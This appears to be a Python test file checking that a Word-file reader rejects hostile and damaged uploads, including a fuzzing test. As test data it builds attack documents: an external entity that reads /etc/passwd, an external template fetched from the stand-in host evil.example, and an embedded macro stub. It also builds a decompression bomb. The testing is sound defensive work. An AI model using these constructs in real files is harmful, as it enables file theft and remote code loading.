"""A Word file from outside is opened only when it can do no harm; every refusal is a sentence in Chinese."""

import io
import random
import zipfile
from contextlib import suppress

import pytest

from tests.base.press import samples
from yangguang.base.press.docx import render_docx
from yangguang.base.press.docx_reading import read_docx
from yangguang.kernel.refusal import Refused

DOCUMENT, RELATIONS = "word/document.xml", "word/_rels/document.xml.rels"


def rebuilt(changes: dict[str, bytes | None], more: tuple[tuple[str, bytes], ...] = ()) -> bytes:
    """A good Word file with some members replaced, left out or added."""
    written = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(render_docx(samples.service_receipt()))) as source,
        zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            content = changes.get(name, source.read(name))
            if content is not None:
                target.writestr(name, content)
        for name, content in more:
            target.writestr(name, content)
    return written.getvalue()


def member(name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(render_docx(samples.service_receipt()))) as source:
        return source.read(name)


def with_doctype() -> bytes:
    xml = member(DOCUMENT).replace(
        b"<w:document", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document', 1
    )
    return rebuilt({DOCUMENT: xml})


def with_outside_template() -> bytes:
    outside = b'<Relationship Id="rId99" Type="x" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    return rebuilt({RELATIONS: member(RELATIONS).replace(b"</Relationships>", outside)})


HOSTILE = {
    "实体": with_doctype,
    "外部内容": with_outside_template,
    "宏": lambda: rebuilt({}, (("word/vbaProject.bin", b"x"),)),
    "解压后过大": lambda: rebuilt({"word/styles.xml": b"<a>" + b" " * 60_000_000 + b"</a>"}),
    "部件过多": lambda: rebuilt({}, tuple((f"word/x{n}.xml", b"<a/>") for n in range(500))),
    "编码": lambda: rebuilt({DOCUMENT: '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16")}),
    "超过 10 MB": lambda: b"PK" + bytes(11 * 1024 * 1024),
    "不是可以读取": lambda: rebuilt({DOCUMENT: b"<w:document"}),
    "不是可以读取的 Word": lambda: rebuilt({DOCUMENT: None}),
    "不是可以读取的": lambda: b"%PDF-1.7 not a word file",
    "不是可以": lambda: rebuilt({DOCUMENT: b"<a>" * 5000 + b"</a>" * 5000}),
}


@pytest.mark.parametrize("said", HOSTILE)
def test_hostile_word_file_is_refused(said):
    with pytest.raises(Refused, match=said):
        read_docx(HOSTILE[said]())


def test_damaged_word_file_is_refused_and_never_breaks_the_page():
    good = render_docx(samples.service_receipt())
    dice = random.Random(20261121)
    for _ in range(150):
        damaged = bytearray(good)
        for _ in range(dice.randint(1, 8)):
            damaged[dice.randrange(len(damaged))] = dice.randrange(256)
        if dice.random() < 0.2:
            del damaged[dice.randrange(len(damaged)) :]
        with suppress(Refused):
            assert isinstance(read_docx(bytes(damaged)), list)
